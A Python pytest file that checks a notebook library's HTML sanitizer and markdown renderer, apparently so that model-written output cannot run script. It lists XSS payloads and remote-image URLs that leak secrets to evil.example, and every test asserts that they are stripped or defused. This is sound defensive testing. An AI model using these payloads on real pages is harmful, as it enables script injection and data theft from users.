"""Output formats and the sanitizer: nothing a model writes can run script in the notebook."""

from __future__ import annotations

import pytest
from pydantic import BaseModel

from lion_nb.notebook.cell.output_formats import (
    Table,
    extract_code,
    markdown_html,
    mime_bundle,
    to_json,
)
from lion_nb.rendering import sanitize_html


@pytest.mark.parametrize(
    "attack",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        '<a href="javascript:alert(1)">x</a>',
        '<a href="  JaVa\tScRiPt:alert(1)">x</a>',
        '<a href="&#106;avascript:alert(1)">x</a>',
        "<iframe src='https://evil.example'></iframe>",
        "<svg><script>alert(1)</script></svg>",
        "<style>body{display:none}</style>",
        '<div style="background:url(javascript:alert(1))">x</div>',
        "<object data='x.swf'></object><embed src='x'>",
        '<img src="data:text/html,<script>alert(1)</script>">',
        "<form action='https://evil.example'><input name=q></form>",
        "<p onclick=alert(1)>hi</p>",
    ],
)
def test_sanitizer_removes_every_script_vector(attack):
    clean = sanitize_html(attack).lower()
    for bad in (
        "<script",
        "onerror",
        "onclick",
        "javascript:",
        "<iframe",
        "<style",
        "<object",
        "<embed",
        "data:text",
        "<form",
        "<input",
        "style=",
    ):
        assert bad not in clean, (attack, clean)


def test_sanitizer_keeps_formatting():
    html = '<h2>T</h2><p><b>b</b> <a href="https://x.org/a">link</a></p><table><tr><td>1</td></tr></table><img src="data:image/png;base64,iVBO" alt="i">'
    clean = sanitize_html(html)
    assert "<h2>T</h2>" in clean and "<b>b</b>" in clean and "<td>1</td>" in clean
    assert 'href="https://x.org/a"' in clean and 'rel="noopener noreferrer nofollow"' in clean
    assert '<img src="data:image/png;base64,iVBO" alt="i">' in clean  # inline raster: kept


@pytest.mark.parametrize(
    "image",
    [
        '<img src="//evil.example/t.png?k=secret" alt="chart">',
        '<img src="https://evil.example/t.png?k=secret" alt="chart">',
        '<IMG SRC=" https://evil.example/t.png?k=secret" alt="chart"/>',
    ],
)
def test_a_remote_image_becomes_a_link_and_never_loads(image):
    clean = sanitize_html(f"<p>{image}</p>")
    assert "<img" not in clean.lower() and "src=" not in clean
    assert "evil.example/t.png?k=secret" in clean and ">image: chart</a>" in clean
    assert 'rel="noopener noreferrer nofollow"' in clean


def test_a_markdown_image_becomes_a_link_and_never_loads():
    html = markdown_html("Look: ![plot](https://evil.example/p.png?d=hunter2)")
    assert "<img" not in html
    assert '<a href="https://evil.example/p.png?d=hunter2"' in html and "image: plot" in html


@pytest.mark.parametrize(
    "src",
    [
        "x",  # relative: still a request the reader did not ask for
        "data:image/svg+xml;base64,PHN2Zz4=",  # not a raster type
        "data:image/pngish;base64,AAAA",
        "javascript:alert(1)",
    ],
)
def test_only_inline_raster_images_are_kept_as_images(src):
    clean = sanitize_html(f'<img src="{src}" alt="a">')
    assert clean == "image: a"  # not on the web: the description only
    assert sanitize_html(f'<img src="{src}">') == "image"


def test_only_language_classes_are_kept():
    spoof = '<div class="jp-Dialog lm-Widget jp-mod-accept">OK</div>'
    assert sanitize_html(spoof) == "<div>OK</div>"
    mixed = '<code class="language-python jp-InputArea">x</code>'
    assert sanitize_html(mixed) == '<code class="language-python">x</code>'
    assert 'class="language-python"' in markdown_html("```python\nx = 1\n```")


def test_sanitizer_closes_what_it_opens_and_escapes_text():
    assert sanitize_html("<b>open") == "<b>open</b>"
    assert sanitize_html("1 < 2 & 3") == "1 &lt; 2 &amp; 3"


def test_markdown_renders_with_raw_html_shown_as_text():
    html = markdown_html("**bold** <script>x()</script>\n\n| a | b |\n|---|---|\n| 1 | 2 |")
    assert "<strong>bold</strong>" in html and "<table>" in html
    assert "<script>" not in html and "&lt;script&gt;" in html


def test_extract_code_prefers_python_blocks():
    text = "Intro\n```bash\npip install x\n```\n```python\nprint(1)\n```\n```py\nprint(2)\n```"
    assert extract_code(text) == "print(1)\n\nprint(2)"
    assert extract_code("```\nonly\n```") == "only"
    assert extract_code("no fences here") == "no fences here"


def test_to_json_and_bundles():
    class P(BaseModel):
        x: int

    assert to_json(P(x=1)) == {"x": 1}
    assert to_json('{"a": 1}') == {"a": 1}
    assert to_json("plain") == "plain"
    assert mime_bundle(P(x=2), "json")["application/json"] == {"x": 2}
    assert "```" not in mime_bundle(P(x=2), "markdown")["text/html"]  # rendered as a code block
    assert "<code" in mime_bundle(P(x=2), "markdown")["text/html"]
    assert mime_bundle("<i>x</i>", "text") == {"text/plain": "<i>x</i>"}
    assert mime_bundle("<i>x</i>", "html")["text/html"] == "<i>x</i>"


def test_table_escapes_and_keeps_rows():
    table = Table(["a"], [{"a": "<b>x</b>"}], title="t")
    assert "&lt;b&gt;" in table._repr_html_()
    assert table.rows == [{"a": "<b>x</b>"}] and len(table) == 1
    assert "(none)" in repr(Table(["a"], []))
